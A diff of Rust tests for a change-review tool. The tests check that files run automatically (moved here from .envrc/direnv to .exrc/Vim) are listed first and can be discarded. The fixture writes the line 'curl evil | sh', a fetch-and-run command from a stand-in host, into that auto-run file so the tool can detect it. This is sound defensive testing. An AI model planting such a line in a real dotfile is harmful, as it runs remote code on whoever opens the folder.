@@ -19,7 +19,7 @@ fn paths<'a>(review: &'a Value, member: Option<&str>) -> Vec<&'a str> {
 }
 
 const SCRIPT: &str = "sed -i 's/^2$/changed 2/; s/^20$/changed 20/; s/^38$/changed 38/' text.txt; rm -r gone
-    echo 'curl evil | sh' > .envrc; echo new > new.txt; printf '\\0\\1' > data.bin";
+    echo 'curl evil | sh' > .exrc; echo new > new.txt; printf '\\0\\1' > data.bin";
 
 /// A delegation that changed five files, and its id.
 fn reviewed_world() -> Option<(DelegationWorld, String)> {
@@ -38,7 +38,7 @@ fn accepted_changes_are_remembered_as_they_were() {
     let Some((mut world, id)) = reviewed_world() else { return };
     let list = world.delegations(&["review", &id, "--json"]).succeeds().json();
     // What a program runs without being asked comes first, then text, then binary files.
-    assert_eq!(paths(&list, None), [".envrc", "gone/old.txt", "new.txt", "text.txt", "data.bin"], "{list:#}");
+    assert_eq!(paths(&list, None), [".exrc", "gone/old.txt", "new.txt", "text.txt", "data.bin"], "{list:#}");
     assert_eq!(paths(&list, Some("accepted")), [""; 0]);
     let file = |path: &str| list["files"].as_array().unwrap().iter().find(|file| file["path"] == path).unwrap().clone();
     let mut text = file("text.txt");
@@ -51,20 +51,20 @@ fn accepted_changes_are_remembered_as_they_were() {
             { "number": 3, "header": "@@ -35,6 +35,6 @@" },
         ] })
     );
-    assert_eq!((&file(".envrc")["run_by"], &file(".envrc")["hunks"]), (&json!("direnv"), &json!([])));
+    assert_eq!((&file(".exrc")["run_by"], &file(".exrc")["hunks"]), (&json!("Vim"), &json!([])));
 
     let done = world.delegations(&["review", &id, "--accept", "text.txt", "new.txt", "--json"]).succeeds().json();
     assert_eq!(
         done,
         json!({ "accepted": ["new.txt", "text.txt"], "discarded": [], "kept": [],
-            "left": [".envrc", "gone/old.txt", "data.bin"] })
+            "left": [".exrc", "gone/old.txt", "data.bin"] })
     );
     let show = |world: &DelegationWorld| world.delegations(&["show", &id, "--json"]).succeeds().json();
     assert_eq!(show(&world)["accepted"], json!(["new.txt", "text.txt"]));
     let diff = world.delegations(&["diff", &id, "--json"]).succeeds().json();
     assert_eq!(diff["accepted"], json!(["new.txt", "text.txt"]));
     let shown = world.delegations(&["show", &id]).succeeds().stdout;
-    assert!(shown.contains("text.txt (accepted)") && !shown.contains(".envrc (accepted)"), "{shown}");
+    assert!(shown.contains("text.txt (accepted)") && !shown.contains(".exrc (accepted)"), "{shown}");
     // Another daemon knows it too.
     world.daemon.take().unwrap().terminate();
     world.start_daemon();
@@ -80,9 +80,9 @@ fn accepted_changes_are_remembered_as_they_were() {
 
     // What is discarded is as before the lease, with the folder that it was in. A conflict is skipped, as by `revert`.
     let done =
-        world.delegations(&["review", &id, "--discard", ".envrc", "gone/old.txt", "new.txt", "--json"]).exits(6).json();
+        world.delegations(&["review", &id, "--discard", ".exrc", "gone/old.txt", "new.txt", "--json"]).exits(6).json();
     assert_eq!(done["kept"][0]["path"], "new.txt", "{done:#}");
-    assert_eq!((world.read("gone/old.txt"), world.folder.join(".envrc").exists()), ("old\n".into(), false));
+    assert_eq!((world.read("gone/old.txt"), world.folder.join(".exrc").exists()), ("old\n".into(), false));
     world.delegations(&["review", &id, "--accept-all"]).succeeds();
     let left = world.delegations(&["review", &id]).succeeds();
     assert_eq!((&*left.stdout, &*left.stderr), ("", "Nothing is left to review.\n"));
@@ -117,7 +117,7 @@ fn a_person_decides_on_files_and_hunks() {
     let screen = terminal.shows("(1 of 5)");
     assert!(!screen.contains("new.txt"), "{screen}");
     let screen = terminal.shows("[?] help [s] ");
-    assert!(screen.contains("+curl evil | sh") && screen.contains("read by direnv"), "{screen}");
+    assert!(screen.contains("+curl evil | sh") && screen.contains("read by Vim"), "{screen}");
     terminal.types("?");
     terminal.shows("restore the file as it was before the lease");
     terminal.types("discard");
@@ -140,7 +140,7 @@ fn a_person_decides_on_files_and_hunks() {
     assert!(terminal.ends(), "{}", terminal.screen());
     terminal.shows("2 accepted, 2 discarded, 2 left.");
 
-    assert!(!world.folder.join(".envrc").exists());
+    assert!(!world.folder.join(".exrc").exists());
     assert_eq!(world.read("text.txt"), lines(&[2, 38]));
     let list = world.delegations(&["review", &id, "--json"]).succeeds().json();
     assert_eq!(paths(&list, Some("accepted")), ["new.txt", "text.txt"], "{list:#}");
@@ -148,7 +148,7 @@ fn a_person_decides_on_files_and_hunks() {
     // The diff has what remains of the file.
     let diff = world.delegations(&["diff", &id]).succeeds().stdout;
     assert!(diff.contains("+changed 2\n") && diff.contains("+changed 38\n"), "{diff}");
-    assert!(!diff.contains("changed 20") && !diff.contains(".envrc"), "{diff}");
+    assert!(!diff.contains("changed 20") && !diff.contains(".exrc"), "{diff}");
     // The rest of the file can be reverted without a conflict.
     world.delegations(&["revert", &id, "text.txt"]).succeeds();
     assert_eq!(world.read("text.txt"), lines(&[]));
